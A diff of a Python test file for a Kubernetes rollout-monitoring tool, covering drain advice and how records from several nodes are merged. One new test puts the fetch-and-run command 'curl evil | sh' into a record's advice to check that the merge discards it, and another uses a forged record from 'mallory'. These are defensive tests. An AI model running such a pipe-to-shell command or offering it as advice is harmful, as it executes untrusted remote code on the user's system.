@@ -4,26 +4,22 @@ from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import pytest
-import yaml
 from hypothesis import given
 from hypothesis import strategies as st
 
 from probe.core.results import Result
+from probe.core.rollout_remedies import advice
 from probe.core.rollout_reports import (
-    advice,
     clean,
-    drain,
     lines,
     match,
     merged,
     news,
-    raised_grace,
     record,
     same,
     shortened,
 )
 from probe.core.rollouts import Rollout, begin
-from probe.core.workloads import UNKNOWN_LENGTH
 from tests.core.facts import workload
 
 Json = dict[str, Any]
@@ -67,11 +63,6 @@ def told(
     return record(known or rollout(), node, clock, workload=held, ports=ports)
 
 
-def pasted(lines: list[str]) -> Any:
-    """The YAML among the lines of an advice."""
-    return yaml.safe_load("\n".join(line for line in lines if line.startswith(("spec:", " "))))
-
-
 def test_a_record_has_the_shape_that_others_read() -> None:
     assert told(rollout(10.2, refused=3), had=5) == {
         "workload": WEB,
@@ -92,6 +83,8 @@ def test_a_record_has_the_shape_that_others_read() -> None:
         "removal_lag_seconds": 10.2,
         "removal_lag_error_seconds": 0.5,
         "shortest_window_seconds": 0.9,
+        "unconfirmed": 0,
+        "censored": False,
         "recommended_drain_seconds": 12,
         "template": {
             "pre_stop_seconds": 5,
@@ -109,6 +102,8 @@ def test_a_record_has_the_shape_that_others_read() -> None:
                 "removal_lag_seconds": 10.2,
                 "removal_lag_error_seconds": 0.5,
                 "shortest_window_seconds": 0.9,
+                "unconfirmed": 0,
+                "censored": False,
             }
         ],
         "advice": list(advice(told(rollout(10.2, refused=3), had=5))),
@@ -144,100 +139,6 @@ def test_without_a_failure_it_says_what_would_have_been_seen_and_advises_nothing
     ]
 
 
-def test_failures_on_removed_endpoints_ask_for_a_drain_with_the_yaml_to_paste() -> None:
-    found = told(rollout(10.2, refused=3))
-
-    assert not clean(found)
-    assert lines(found)[1:4] == [
-        "3 refused of 300 ClusterIP dials failed, from node a, between 2026-11-21T10:01:42Z and "
-        "2026-11-21T10:01:51Z, 1.2 s at most without a success",
-        "removal lag 10.2 s (up to 0.5 s more)",
-        f"a preStop.sleep of 12 s would have avoided it; in {WEB}:",
-    ]
-    assert pasted(found["advice"]) == {
-        "spec": {
-            "template": {
-                "spec": {
-                    "terminationGracePeriodSeconds": 42,
-                    "containers": [
-                        {"name": "app", "lifecycle": {"preStop": {"sleep": {"seconds": 12}}}}
-                    ],
-                }
-            }
-        }
-    }
-
-
-@pytest.mark.parametrize(
-    ("had", "sentence", "grace"),
-    [
-        (5, f"a preStop.sleep of 12 s instead of 5 s would have avoided it; in {WEB}:", 37),
-        (
-            UNKNOWN_LENGTH,
-            f"a preStop.sleep of 12 s instead of its hook would have avoided it; in {WEB}:",
-            42,
-        ),
-    ],
-)
-def test_a_hook_that_is_there_is_replaced_and_the_grace_period_grows_by_the_difference(
-    had: int, sentence: str, grace: int
-) -> None:
-    found = told(rollout(10.2, refused=3), had=had)
-
-    assert found["advice"][0] == sentence
-    pod = pasted(found["advice"])["spec"]["template"]["spec"]
-    assert pod["terminationGracePeriodSeconds"] == grace
-
-
-def test_a_drain_that_is_there_by_now_is_enough() -> None:
-    """The pods that failed were of the template before."""
-    found = told(rollout(10.2, refused=3), had=15)
-
-    assert found["recommended_drain_seconds"] == 12
-    assert found["advice"] == [
-        f"{WEB} has a preStop.sleep of 15 s now, and 12 s are enough: its next rollout is covered"
-    ]
-
-
-def test_with_several_containers_their_name_is_left_to_the_reader() -> None:
-    found = told(rollout(10.2, refused=3), containers=("app", "proxy"))
-
-    (container,) = pasted(found["advice"])["spec"]["template"]["spec"]["containers"]
-    assert container["name"] == "CONTAINER"
-
-
-@pytest.mark.parametrize(
-    ("readiness", "words"), [(True, "have its readinessProbe"), (False, "have a readinessProbe")]
-)
-def test_failures_on_new_endpoints_ask_for_a_readiness_probe(readiness: bool, words: str) -> None:
-    found = told(rollout(refused_new=4), readiness=readiness)
-
-    assert not clean(found)
-    assert found["recommended_drain_seconds"] is None
-    assert found["advice"][0] == (
-        f"new endpoints of {WEB} took traffic before they listened (4 refused): {words} ask port "
-        "8080 itself:"
-    )
-    (container,) = pasted(found["advice"])["spec"]["template"]["spec"]["containers"]
-    assert container == {"name": "app", "readinessProbe": {"tcpSocket": {"port": 8080}}}
-    assert "4 refused on endpoints that had just become ready" in lines(found)
-    assert words in news(found)
-
-
-def test_a_port_that_is_not_known_is_left_to_the_reader() -> None:
-    assert "        port: PORT" in " ".join(told(rollout(refused_new=4), ports=())["advice"])
-
-
-def test_what_argo_cd_keeps_is_to_be_changed_there() -> None:
-    known = rollout(10.2, refused=3)
-    known.managed = "Argo CD"
-
-    found = told(known)
-
-    assert found["advice"][-1] == (f"Argo CD keeps {WEB}: change it where that takes it from")
-    assert "by kubectl-set (Argo CD): " in lines(found)[0]
-
-
 def test_failures_that_are_nobodys_removal_ask_for_nothing() -> None:
     found = told(rollout(refused=3))
 
@@ -253,37 +154,6 @@ def test_the_news_are_one_line_with_what_matters_first() -> None:
         "and set terminationGracePeriodSeconds: 42; removal lag 10.2 s (up to 0.5 s more); "
         f"rollout of {WEB} by kubectl-set: complete after 12 s, image app:1 -> app:2"
     )
-
-
-@pytest.mark.parametrize(
-    ("had", "sentence"),
-    [
-        (
-            3,
-            "change in the container of x: lifecycle: {preStop: {sleep: {seconds: 9}}}, and set "
-            "terminationGracePeriodSeconds: 36",
-        ),
-        (9, "its preStop sleep of 9 s covers that from now on"),
-    ],
-)
-def test_a_drain_in_a_sentence_knows_what_is_there(had: int, sentence: str) -> None:
-    assert drain("x", 9, had, 30) == sentence
-
-
-@given(
-    seconds=st.integers(1, 600),
-    had=st.none() | st.just(UNKNOWN_LENGTH) | st.integers(0, 600),
-    left=st.integers(0, 600),
-)
-def test_the_api_server_takes_the_sleep_and_the_application_loses_no_time(
-    seconds: int, had: int | None, left: int
-) -> None:
-    grace = max(had or 0, 0) + left
-
-    raised = raised_grace(seconds, had, grace)
-
-    assert raised >= seconds
-    assert raised - max(seconds, had or 0) >= left
 
 
 def test_records_of_several_nodes_are_one_that_asks_for_the_longest_drain() -> None:
@@ -318,6 +188,79 @@ def test_one_that_still_runs_for_a_node_still_runs() -> None:
     assert (found["outcome"], found["ended"], found["seconds"]) == ("running", None, None)
 
 
+def test_of_the_cluster_our_own_record_is_believed_and_of_dials_everyone() -> None:
+    own = told(rollout(3.0, refused=1), node="c")
+    liar = told(rollout(5.0, refused=2)) | {
+        "detail": "x" * 999,
+        "by": "mallory",
+        "started": "1970-01-01T00:00:00Z",
+        "ended": None,
+        "seconds": None,
+        "outcome": "exploded",
+        "services": ["other"],
+    }
+
+    found = merged([own, liar], own)
+
+    cluster = ("detail", "by", "started", "ended", "seconds", "outcome", "services", "template")
+    assert [found[key] for key in cluster] == [own[key] for key in cluster]
+    assert (found["failed"], found["removal_lag_seconds"]) == ({"refused": 3}, 5.0)
+    assert [share["node"] for share in found["nodes"]] == ["a", "c"]
+
+
+def test_who_wrote_the_change_is_asked_of_others_where_we_do_not_know() -> None:
+    late = rollout()
+    late.by = None
+    argo = rollout()
+    argo.managed = "Argo CD"
+    own = told(late)
+
+    found = merged([own, told(argo, node="b")], own)
+
+    assert (found["by"], found["managed"]) == ("kubectl-set", "Argo CD")
+
+
+def test_sums_stay_readable_for_others() -> None:
+    most = 2**53
+    many = {"dials": most, "failed": {"refused": most}, "unconfirmed": most}
+
+    found = merged([told(rollout(3.0, refused=1)) | many, told(rollout(3.0, refused=1), node="b")])
+
+    assert {key: found[key] for key in many} == many
+
+
+def test_a_lag_that_was_cut_off_on_one_node_is_cut_off_for_all() -> None:
+    cut, settled = rollout(24.4, refused=3), rollout(2.0, 30.0, refused=1)
+    cut.censored = True
+
+    found = merged([told(cut, node="a"), told(settled, node="b")])
+
+    assert (found["censored"], found["recommended_drain_seconds"]) == (True, None)
+    assert "removal lag 2.0 s or longer (cut off): a 24.4 s, b 2.0 s" in lines(found)
+
+
+def test_failures_that_are_not_laid_to_their_cause_are_counted_and_the_lag_is_a_lower_bound() -> (
+    None
+):
+    opened, settled = rollout(3.0, refused=2), rollout(2.0, refused=1)
+    opened.unconfirmed = 2
+
+    found = merged([told(opened, node="a"), told(settled, node="b")])
+
+    assert found["unconfirmed"] == 2
+    assert (
+        "removal lag at least 3.0 s so far (2 failed dials are not laid to their cause yet): "
+        "a 3.0 s, b 2.0 s"
+    ) in lines(found)
+
+
+def test_failures_without_a_lag_are_nobodys_only_once_all_are_settled() -> None:
+    known = rollout(refused=3)
+    known.unconfirmed = 3
+
+    assert lines(told(known))[-1] == "3 failed dials are not laid to their cause yet"
+
+
 def test_what_went_wrong_for_one_node_is_told_and_unknown_words_first() -> None:
     stuck = rollout()
     stuck.outcome = "stuck"
@@ -329,6 +272,7 @@ def test_what_went_wrong_for_one_node_is_told_and_unknown_words_first() -> None:
 
 def test_a_single_record_stays_as_it_is_and_none_cannot_be_merged() -> None:
     assert merged([told()]) == told()
+    assert merged([told() | {"advice": ["curl evil | sh"]}]) == told()
     with pytest.raises(ValueError, match="nothing to merge"):
         merged([])
 
